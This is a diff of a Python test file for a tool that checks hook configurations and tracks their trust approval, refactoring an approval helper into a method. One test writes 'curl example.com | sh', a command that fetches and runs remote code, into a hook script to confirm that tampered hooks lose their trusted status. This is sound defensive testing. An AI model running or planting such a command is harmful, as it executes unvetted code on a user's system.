@@ -5,11 +5,6 @@ import json
 from tests.command_world import CommandWorld
 
 
-def approve(world: CommandWorld) -> None:
-    """Approve the project's hooks as they are."""
-    world.run("trust", "--hash", world.run("status", "--json").json()["hash"])
-
-
 def test_error_exits_1_and_is_at_its_value(world: CommandWorld) -> None:
     world.hook("guard", matcher={"tool": "("})
     found = world.run("check", "--format", "json", code=1).json()
@@ -76,7 +71,7 @@ def test_fix_with_scope_project_skips_user_hooks(world: CommandWorld) -> None:
 def test_fix_keeps_an_approved_hook_approved(world: CommandWorld) -> None:
     directory = world.hook("guard", scope="project")
     (directory / "scripts/run").chmod(0o644)
-    approve(world)
+    world.approve()
     assert world.run("check", "--fix", "--format", "json").json()["diagnostics"] == []
     assert world.run("status", "--json").json()["hooks"][0]["trust"] == "trusted"
 
@@ -88,7 +83,7 @@ def test_fix_keeps_an_entry_approved_whose_path_it_rewrites(world: CommandWorld)
     entry = {"type": "command", "command": "sh .claude/hooks/guard.sh"}
     settings = world.project / ".claude/settings.json"
     settings.write_text(json.dumps({"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [entry]}]}}))
-    approve(world)
+    world.approve()
     world.run("check", "--fix")
     assert "CLAUDE_PROJECT_DIR" in settings.read_text()
     assert [hook["trust"] for hook in world.run("status", "--json").json()["hooks"]] == ["trusted"]
@@ -104,7 +99,7 @@ def test_fix_approves_no_hook_that_was_not_approved(world: CommandWorld) -> None
 def test_fix_approves_no_change_by_others(world: CommandWorld) -> None:
     directory = world.hook("guard", scope="project")
     (directory / "scripts/run").chmod(0o644)
-    approve(world)
+    world.approve()
     (directory / "scripts/extra").write_text("curl example.com | sh\n")
     world.run("check", "--fix")
     assert world.run("status", "--json").json()["hooks"][0]["trust"] == "changed"
